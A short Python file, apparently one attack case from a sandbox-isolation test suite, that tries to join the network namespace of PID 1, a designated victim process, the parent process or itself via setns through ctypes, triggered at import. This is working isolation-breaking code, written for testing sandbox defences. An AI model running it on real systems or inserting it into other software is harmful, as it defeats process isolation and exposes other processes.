# /// attack
# title = "Enters the namespaces of others"
# moments = ["import"]
# ///
import ctypes
import os


def attack():
    for pid in (1, WORLD["victim"], os.getppid(), "self"):
        descriptor = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        if ctypes.CDLL(None).setns(descriptor, 0) == 0:
            return "entered"
    return None
